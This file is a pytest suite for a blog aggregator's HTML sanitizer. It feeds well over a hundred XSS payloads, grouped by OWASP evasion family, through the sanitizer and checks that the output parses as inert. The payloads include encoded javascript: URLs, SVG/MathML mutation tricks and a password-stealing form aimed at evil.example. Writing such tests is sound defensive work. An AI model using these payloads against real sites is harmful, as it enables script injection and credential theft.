@@ -1,0 +1,529 @@
+"""The sanitizer against the well-known XSS vector families, checked by parsing its output the
+way a browser would (html5lib), never by looking for substrings."""
+
+from __future__ import annotations
+
+import re
+
+import html5lib
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from campplanet.sanitize import (
+    DEFAULT_IFRAME_HOSTS,
+    IFRAME_SANDBOX,
+    html_to_text,
+    plain_title,
+    sanitize_html,
+    strip_invalid_xml_chars,
+    summarize,
+)
+
+BASE = "https://blog.example.org/2024/05/post.html"
+
+# Elements that must never come out, whatever namespace the parser puts them in.
+FORBIDDEN_ELEMENTS = {
+    "script", "style", "base", "meta", "link", "object", "embed", "form", "input", "button",
+    "textarea", "select", "svg", "math", "applet", "frame", "frameset", "template", "noscript",
+    "xmp", "plaintext", "portal", "animate", "set", "handler", "listener", "use",
+}  # fmt: skip
+URL_ATTRIBUTES = {
+    "href", "src", "srcset", "poster", "action", "formaction", "data", "background",
+    "cite", "longdesc", "xlink:href", "lowsrc", "dynsrc", "codebase", "ping", "manifest",
+}  # fmt: skip
+FORBIDDEN_ATTRIBUTES = {"style", "srcdoc", "formaction", "action", "class", "id", "target"}
+BAD_SCHEME = re.compile(r"^(javascript|vbscript|data|livescript|mocha|jar|file):", re.IGNORECASE)
+_URL_NOISE = re.compile(r"[\x00-\x20\x7f-\x9f]")
+
+
+def _local(name: str) -> str:
+    return name.rsplit("}", 1)[-1].lower()
+
+
+def problems(fragment: str, iframe_hosts: tuple[str, ...] = DEFAULT_IFRAME_HOSTS) -> list[str]:
+    """Everything in ``fragment`` that could run script or restyle the page, as a browser's
+    HTML5 parser sees it. Empty when the fragment is inert."""
+    found: list[str] = []
+    tree = html5lib.parseFragment(fragment, treebuilder="etree", namespaceHTMLElements=False)
+    for element in tree.iter():
+        if not isinstance(element.tag, str):
+            continue  # comments
+        tag = _local(element.tag)
+        if tag in FORBIDDEN_ELEMENTS:
+            found.append(f"<{tag}> element")
+        for raw_name, value in element.attrib.items():
+            name = _local(raw_name)
+            if name.startswith("on"):
+                found.append(f"event handler {name} on <{tag}>")
+            if name in FORBIDDEN_ATTRIBUTES:
+                found.append(f"{name} attribute on <{tag}>")
+            if name in URL_ATTRIBUTES or raw_name.endswith("}href"):
+                candidates = value.split(",") if name == "srcset" else [value]
+                for candidate in candidates:
+                    url = _URL_NOISE.sub("", candidate)
+                    if BAD_SCHEME.match(url):
+                        found.append(f"{name}={value!r} on <{tag}>")
+        if (
+            tag == "a"
+            and "href" in element.attrib
+            and element.attrib.get("rel") != "nofollow ugc noopener"
+        ):
+            found.append(f"link without rel: {element.attrib}")
+        if tag == "iframe":
+            src = element.attrib.get("src", "")
+            host = re.match(r"https://([^/:?#]+)", src)
+            if not host or host.group(1).lower() not in iframe_hosts:
+                found.append(f"iframe from {src!r}")
+            if element.attrib.get("sandbox") != IFRAME_SANDBOX:
+                found.append(f"iframe without sandbox: {element.attrib}")
+    return found
+
+
+def assert_inert(fragment: str, iframe_hosts: tuple[str, ...] = DEFAULT_IFRAME_HOSTS) -> None:
+    found = problems(fragment, iframe_hosts)
+    assert not found, f"{found} in {fragment!r}"
+
+
+def test_the_checker_itself_catches_what_it_must() -> None:
+    """The checker must be able to fail, or every test below proves nothing."""
+    assert problems("<script>x</script>")
+    assert problems('<img src=x onerror="alert(1)">')
+    assert problems('<a href=" java&#x09;script:alert(1)" rel="nofollow ugc noopener">x</a>')
+    assert problems('<img srcset="a.png 1x, data:image/svg+xml,x 2x">')
+    assert problems('<svg><a xlink:href="javascript:alert(1)">x</a></svg>')
+    assert problems('<p style="position:fixed">x</p>')
+    assert problems(f'<iframe src="https://evil.example/" sandbox="{IFRAME_SANDBOX}"></iframe>')
+    assert problems('<iframe src="https://www.youtube.com/embed/x"></iframe>')
+    assert problems('<a href="https://x.org/">no rel</a>')
+    assert problems("<math><mi>x</mi></math>")
+    assert not problems('<p>ok <a href="https://x.org/" rel="nofollow ugc noopener">x</a></p>')
+
+
+# --- XSS vector battery (OWASP XSS Filter Evasion Cheat Sheet families) -----------------------
+
+SCRIPT_TAGS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
+    "<script/xss src=https://xss.example/xss.js></script>",
+    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
+    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
+    "<SCRIPT SRC=//xss.example/.j>",
+    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "<script>/*",
+    "<!--<script>alert(1)//--><script>alert(2)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<template><script>alert(1)</script></template>",
+    "<div><script>alert(1)</script",
+    "<p>text</p><script\n>alert(1)</script\n>",
+]
+EVENT_HANDLERS = [
+    "<IMG SRC=x onerror=alert(1)>",
+    '<img src="x" ONERROR="alert(1)">',
+    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    '<BODY ONLOAD=alert("XSS")>',
+    "<div onmouseover=alert(1)>hover</div>",
+    '<a href="https://ok.example/" onclick="alert(1)">x</a>',
+    "<p onpointerenter=alert(1)>x</p>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
+    "<isindex type=image src=1 onerror=alert(1)>",
+    '<img """ onerror=alert(1)>',
+    "<img src=x onerror\x0b=alert(1)>",
+    "<img src=x onerror\x00=alert(1)>",
+    '<img src=x title="a" onerror="alert(1)"title=b>',
+    "<input autofocus onfocus=alert(1)>",
+    "<select onfocus=alert(1) autofocus>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<keygen autofocus onfocus=alert(1)>",
+    "<table background=javascript:alert(1)><td onmouseover=alert(1)>x</td></table>",
+]
+URL_VECTORS = [
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href=" javascript:alert(1)">x</a>',
+    '<a href="\x01javascript:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href="java\nscript:alert(1)">x</a>',
+    '<a href="java&#x09;script:alert(1)">x</a>',
+    '<a href="java&#x0A;script:alert(1)">x</a>',
+    '<a href="java&#x0D;script:alert(1)">x</a>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
+    '&#0000112&#0000116&#0000058alert(1)">x</a>',
+    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
+    '<a href="javascript&colon;alert(1)">x</a>',
+    '<a href="&#14;  javascript:alert(1)">x</a>',
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href=`javascript:alert(1)`>x</a>",
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="VBScript:msgbox(1)">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<a href=" data:text/html,<script>alert(1)</script>">x</a>',
+    '<img src="javascript:alert(1)">',
+    "<IMG SRC=JaVaScRiPt:alert(1)>",
+    "<IMG SRC=`javascript:alert(1)`>",
+    '<IMG SRC="jav&#x09;ascript:alert(1);">',
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    '<img src="https://ok.example/a.png"'
+    ' srcset="javascript:alert(1) 1x, https://ok.example/b.png 2x">',
+    '<img srcset="data:image/svg+xml,<svg/onload=alert(1)> 2x">',
+    '<picture><source srcset="javascript:alert(1)"><img src="a.png"></picture>',
+    '<video poster="javascript:alert(1)" src="vbscript:x"></video>',
+    '<video><source src="data:video/mp4,xx"></video>',
+    '<blockquote cite="javascript:alert(1)">q</blockquote>',
+    '<q cite="vbscript:x">q</q>',
+    '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
+    '<a href="https://ok.example/" ping="javascript:alert(1)">x</a>',
+    "<INPUT TYPE=IMAGE SRC=javascript:alert(1)>",
+    '<BGSOUND SRC="javascript:alert(1)">',
+    '<LINK REL="stylesheet" HREF="javascript:alert(1)">',
+    '<a href="http://%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>',
+    '<a href="  &#x20;  javascript:alert(1)">x</a>',
+]
+SVG_MATHML = [
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><script xlink:href=data:,alert(1)></script></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
+    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
+    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
+    "<svg><style>@import url(https://xss.example/x.css)</style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mtext></math>",
+    '<math href="javascript:alert(1)">click</math>',
+    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
+    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
+    '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>'
+    '<img onerror=alert(1) src=1>">',
+    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
+]
+STYLE_VECTORS = [
+    "<style>@import 'https://xss.example/xss.css';</style>",
+    "<STYLE>BODY{-moz-binding:url(https://xss.example/xss.xml#xss)}</STYLE>",
+    '<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>',
+    '<DIV STYLE="width: expression(alert(1));">x</DIV>',
+    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">cover</p>',
+    '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
+    '<span style="behavior: url(xss.htc);">x</span>',
+    '<STYLE TYPE="text/javascript">alert(1);</STYLE>',
+    '<LINK REL="stylesheet" HREF="https://xss.example/xss.css">',
+    '<p class="admin-banner" id="login">spoof</p>',
+]
+STRUCTURE_VECTORS = [
+    '<base href="javascript:alert(1)//">',
+    '<base href="https://evil.example/">',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
+    '<META HTTP-EQUIV="refresh"'
+    ' CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
+    '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">',
+    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
+    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
+    '<applet code="x.class"></applet>',
+    '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
+    '<form action="https://evil.example/steal"><input name=password type=password>'
+    "<button formaction=javascript:alert(1)>go</button></form>",
+    "<isindex action=javascript:alert(1) type=submit value=click>",
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<iframe src="https://evil.example/phish"></iframe>',
+    '<iframe src="http://www.youtube.com/embed/x"></iframe>',
+    '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
+    '<iframe src="https://evil.example@www.youtube.com/"></iframe>',
+    '<iframe src="https://evil.example\\@www.youtube.com/"></iframe>',
+    '<iframe src="https://www.youtube.com:8080/embed/x"></iframe>',
+    '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)" sandbox="allow-top-navigation"'
+    ' srcdoc="<script>alert(1)</script>"></iframe>',
+    '<iframe src="https://www.youtube.com/embed/x" title="a>b"></iframe>'
+    '<p>" onload="alert(1)" x="</p>',
+    '<iframe src="https://www.youtube.com/embed/x"><script>alert(1)</script></iframe>',
+    "<iframe src=https://evil.example/ <script>alert(1)</script>",
+    '<portal src="https://evil.example/"></portal>',
+    '<a href="https://ok.example/" target="_top">x</a>',
+]
+BROKEN_MARKUP = [
+    '<a href="https://ok.example/" title="x"onmouseover="alert(1)">x</a>',
+    "<a href='https://ok.example/' title='\"><script>alert(1)</script>'>x</a>",
+    '<img src="x" alt=""><script>alert(1)</script>">',
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    '<a href="https://ok.example/"<img src=x onerror=alert(1)>>x</a>',
+    "<p>unclosed <b>bold <i>italic",
+    "<div><p></div></p><script>alert(1)</script>",
+    "<table><tr><td><script>alert(1)</script></td></tr></table>",
+    "<select><option><script>alert(1)</script></option></select>",
+    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
+    "<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>",
+    "<!-- --!><script>alert(1)</script> -->",
+    "<title><img src=x onerror=alert(1)></title>",
+    "<noembed><img src=x onerror=alert(1)></noembed>",
+    "<noframes><img src=x onerror=alert(1)></noframes>",
+    "<plaintext><script>alert(1)</script>",
+    "<a\x00href=javascript:alert(1)>x</a>",
+    "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "\ufeff<script>alert(1)</script>",
+    "<img src=\"x\" alt='\x00' onerror=alert(1)>",
+]
+ALL_VECTORS = (
+    SCRIPT_TAGS + EVENT_HANDLERS + URL_VECTORS + SVG_MATHML + STYLE_VECTORS
+    + STRUCTURE_VECTORS + BROKEN_MARKUP
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("vector", ALL_VECTORS)
+@pytest.mark.parametrize("base", [BASE, None])
+def test_xss_vector_comes_out_inert(vector: str, base: str | None) -> None:
+    out = sanitize_html(vector, base)
+    assert_inert(out)
+    assert_inert(sanitize_html(out, base))
+    # Whatever is left of it is still usable HTML once more through the sanitizer.
+    assert sanitize_html(out, base) == out or problems(sanitize_html(out, base)) == []
+
+
+@pytest.mark.parametrize("vector", ALL_VECTORS)
+def test_xss_vector_inside_ordinary_post(vector: str) -> None:
+    post = f"<p>Before the talk</p>{vector}<p>After <a href='/x'>the talk</a></p>"
+    out = sanitize_html(post, BASE)
+    assert_inert(out)
+    assert "Before the talk" in html_to_text(out)
+
+
+def test_vector_count_per_family() -> None:
+    """The battery keeps its size: many cases per family."""
+    families = [SCRIPT_TAGS, EVENT_HANDLERS, URL_VECTORS, SVG_MATHML, STYLE_VECTORS]
+    assert all(len(f) >= 10 for f in families)
+    assert len(ALL_VECTORS) >= 150
+
+
+# --- what survives, and how ------------------------------------------------------------------
+
+
+def _tree(fragment: str):
+    return html5lib.parseFragment(fragment, treebuilder="etree", namespaceHTMLElements=False)
+
+
+def _elements(fragment: str, tag: str) -> list:
+    return [e for e in _tree(fragment).iter() if e.tag == tag]
+
+
+def test_ordinary_markup_survives() -> None:
+    src = (
+        "<h2>Notes</h2><p>Some <strong>bold</strong>, <em>em</em> and <code>x = 1</code>.</p>"
+        "<ul><li>one</li><li>two</li></ul><blockquote>quote</blockquote>"
+        "<table><tr><th>a</th><td>b</td></tr></table><pre>pre\n  text</pre>"
+        "<figure><img src='/a.png' alt='A'><figcaption>cap</figcaption></figure>"
+    )
+    out = sanitize_html(src, BASE)
+    for tag in ("h2", "strong", "em", "code", "ul", "li", "blockquote", "table", "pre", "figure"):
+        assert _elements(out, tag), tag
+    assert "pre\n  text" in out
+
+
+def test_links_get_rel_and_absolute_urls() -> None:
+    out = sanitize_html(
+        '<a href="../other.html#frag">o</a> <a href="/root">r</a> <a href="//cdn.example/x">c</a>'
+        ' <a href="mailto:a@example.org">m</a> <a href="?page=2">q</a>',
+        BASE,
+    )
+    hrefs = [a.attrib["href"] for a in _elements(out, "a")]
+    assert hrefs == [
+        "https://blog.example.org/2024/other.html#frag",
+        "https://blog.example.org/root",
+        "https://cdn.example/x",
+        "mailto:a@example.org",
+        "https://blog.example.org/2024/05/post.html?page=2",
+    ]
+    assert {a.attrib["rel"] for a in _elements(out, "a")} == {"nofollow ugc noopener"}
+
+
+def test_existing_rel_is_replaced() -> None:
+    out = sanitize_html('<a href="https://x.example/" rel="opener">x</a>', BASE)
+    assert _elements(out, "a")[0].attrib["rel"] == "nofollow ugc noopener"
+
+
+def test_images_lazy_keep_size_and_absolute_srcset() -> None:
+    out = sanitize_html(
+        '<img src="img/a.png" width="640" height="480" alt="A" loading="eager" '
+        'srcset="img/a-320.png 320w, /img/a-640.png 640w , https://cdn.example/a.png 2x">',
+        BASE,
+    )
+    (img,) = _elements(out, "img")
+    assert img.attrib["src"] == "https://blog.example.org/2024/05/img/a.png"
+    assert img.attrib["loading"] == "lazy"
+    assert (img.attrib["width"], img.attrib["height"], img.attrib["alt"]) == ("640", "480", "A")
+    assert img.attrib["srcset"] == (
+        "https://blog.example.org/2024/05/img/a-320.png 320w, "
+        "https://blog.example.org/img/a-640.png 640w, https://cdn.example/a.png 2x"
+    )
+
+
+def test_video_poster_and_sources_absolute() -> None:
+    out = sanitize_html(
+        '<video poster="p.jpg" controls><source src="v.mp4" type="video/mp4"></video>'
+        '<picture><source srcset="w.webp 1x"><img src="w.png"></picture>',
+        BASE,
+    )
+    assert _elements(out, "video")[0].attrib["poster"] == "https://blog.example.org/2024/05/p.jpg"
+    sources = _elements(out, "source")
+    assert sources[0].attrib["src"] == "https://blog.example.org/2024/05/v.mp4"
+    assert sources[1].attrib["srcset"] == "https://blog.example.org/2024/05/w.webp 1x"
+
+
+def test_relative_urls_stay_relative_without_base() -> None:
+    out = sanitize_html('<a href="/x">x</a><img src="y.png">', None)
+    assert _elements(out, "a")[0].attrib["href"] == "/x"
+    assert _elements(out, "img")[0].attrib["src"] == "y.png"
+
+
+def test_allowed_iframe_is_sandboxed_and_lazy() -> None:
+    out = sanitize_html(
+        '<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/abc?rel=0&amp;x=1"'
+        ' frameborder="0" allow="autoplay" allowfullscreen style="border:0">fallback</iframe>',
+        BASE,
+    )
+    (iframe,) = _elements(out, "iframe")
+    assert iframe.attrib["src"] == "https://www.youtube-nocookie.com/embed/abc?rel=0&x=1"
+    assert iframe.attrib["sandbox"] == IFRAME_SANDBOX
+    assert iframe.attrib["loading"] == "lazy"
+    assert (iframe.attrib["width"], iframe.attrib["height"]) == ("560", "315")
+    assert "style" not in iframe.attrib and "allow" not in iframe.attrib
+    assert "fallback" not in out
+
+
+def test_protocol_relative_vimeo_iframe_resolves_to_https() -> None:
+    out = sanitize_html('<iframe src="//player.vimeo.com/video/1"></iframe>', BASE)
+    assert _elements(out, "iframe")[0].attrib["src"] == "https://player.vimeo.com/video/1"
+
+
+def test_other_iframe_becomes_plain_link() -> None:
+    out = sanitize_html('<p><iframe src="/embed/map?a=1&amp;b=2">x</iframe></p>', BASE)
+    assert not _elements(out, "iframe")
+    (a,) = _elements(out, "a")
+    assert a.attrib["href"] == "https://blog.example.org/embed/map?a=1&b=2"
+    assert a.attrib["rel"] == "nofollow ugc noopener"
+    assert a.text == "https://blog.example.org/embed/map?a=1&b=2"
+
+
+def test_iframe_hosts_are_configurable() -> None:
+    src = '<iframe src="https://www.youtube.com/embed/x"></iframe>'
+    assert not _elements(sanitize_html(src, BASE, iframe_hosts=("example.tv",)), "iframe")
+    out = sanitize_html(
+        '<iframe src="https://EXAMPLE.tv/e/1"></iframe>', BASE, iframe_hosts=("example.tv",)
+    )
+    assert _elements(out, "iframe")[0].attrib["src"] == "https://EXAMPLE.tv/e/1"
+    assert_inert(out, iframe_hosts=("example.tv",))
+
+
+def test_comments_and_cdata_do_not_survive() -> None:
+    out = sanitize_html("<p>a<!-- secret --></p>", BASE)
+    assert "secret" not in out
+
+
+def test_invalid_xml_characters_removed() -> None:
+    out = sanitize_html("<p>a\x00b\x06c\x1fd\ufffee\uffff</p>", BASE)
+    assert html_to_text(out) == "abcde"
+
+
+def test_empty_input() -> None:
+    assert sanitize_html("", BASE) == ""
+    assert html_to_text("") == ""
+    assert summarize("") == ""
+    assert plain_title("") == ""
+
+
+# --- plain text helpers -------------------------------------------------------------------
+
+
+def test_html_to_text_separates_blocks_and_decodes_entities() -> None:
+    text = html_to_text(
+        "<p>One&nbsp;&amp; two</p><p>three<br>four</p><ul><li>a</li><li>b</li></ul>"
+        "<script>hidden()</script><style>p{}</style>"
+    )
+    assert text == "One & two three four a b"
+
+
+def test_summarize_cuts_at_word_count_with_ellipsis() -> None:
+    words = " ".join(f"w{i}" for i in range(100))
+    short = summarize(f"<p>{words}</p>", 60)
+    assert short.endswith("…")
+    assert short[:-1].split(" ") == [f"w{i}" for i in range(60)]
+    assert summarize("<p>just a few words</p>") == "just a few words"
+    assert summarize("<p>end, with comma, here</p>", 2) == "end, with…"
+
+
+@pytest.mark.parametrize(
+    ("raw", "expected"),
+    [
+        ("Q&amp;A", "Q&A"),
+        ("Q&amp;amp;A", "Q&A"),
+        ("AT&T &#8211; news", "AT&T – news"),
+        ("<b>Bold</b> move", "Bold move"),
+        ("&lt;b&gt;Escaped&lt;/b&gt; tags", "<b>Escaped</b> tags"),
+        ("  lots\n\tof   space  ", "lots of space"),
+        ("bell\x07 and \x00nul", "bell and nul"),
+        ("Caf&eacute; &#x2603;", "Café ☃"),
+        ("<script>alert(1)</script>Title", "Title"),
+    ],
+)
+def test_plain_title(raw: str, expected: str) -> None:
+    assert plain_title(raw) == expected
+
+
+def test_plain_title_of_plain_text_keeps_angle_brackets() -> None:
+    assert plain_title("Use <div> wisely", is_html=False) == "Use <div> wisely"
+
+
+def test_strip_invalid_xml_chars() -> None:
+    allowed = "\t\n\r a\u00e9\u0085\ud7ff\ue000\ufffd\U0001f600\U0010ffff"
+    assert strip_invalid_xml_chars(allowed) == allowed
+    forbidden = "".join(chr(c) for c in range(0x20) if c not in (9, 10, 13))
+    forbidden += "\ud800\udfff\ufffe\uffff"
+    assert strip_invalid_xml_chars(f"a{forbidden}b") == "ab"
+
+
+# --- properties -------------------------------------------------------------------------------
+
+PIECES = st.sampled_from(
+    [
+        "<", ">", "/", "=", '"', "'", "`", " ", "\t", "\n", "\x00", "&", "&#", ";", "x", "1",
+        "<script>", "</script>", "<img", "<a", "<iframe", "</iframe>", "<svg", "<math", "<style>",
+        "<!--", "-->", "<![CDATA[", "]]>", "<p>", "</p>", "<table>", "<select>", "<template>",
+        "<noscript>", "<textarea>", "<title>", "<form>", "<base", "<meta", "<object", "<embed",
+        " src=", " href=", " srcset=", " poster=", " style=", " onerror=", " onload=", " on",
+        " srcdoc=", " xlink:href=", "javascript:", "java\tscript:", "&#106;avascript:",
+        "vbscript:", "data:text/html,", "alert(1)", "https://www.youtube.com/embed/v",
+        "https://evil.example/", "//player.vimeo.com/v", "/rel", " 1x,", " 2x",
+        "&lt;", "&gt;", "&quot;", "&amp;", "\ud800", "\ufffe", "é", "\u2028",
+    ]
+)  # fmt: skip
+HTMLISH = st.lists(PIECES | st.text(max_size=3), max_size=40).map("".join)
+
+
+@settings(max_examples=300, deadline=None)
+@given(HTMLISH, st.sampled_from([BASE, None, "https://x.example"]))
+def test_sanitize_never_raises_and_output_is_inert(fragment: str, base: str | None) -> None:
+    once = sanitize_html(fragment, base)
+    assert_inert(once)
+    twice = sanitize_html(once, base)
+    assert_inert(twice)
+    assert strip_invalid_xml_chars(twice) == twice
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text())
+def test_text_helpers_never_raise_and_give_clean_text(text: str) -> None:
+    for out in (html_to_text(text), summarize(text), plain_title(text)):
+        assert strip_invalid_xml_chars(out) == out
+        assert out == out.strip()
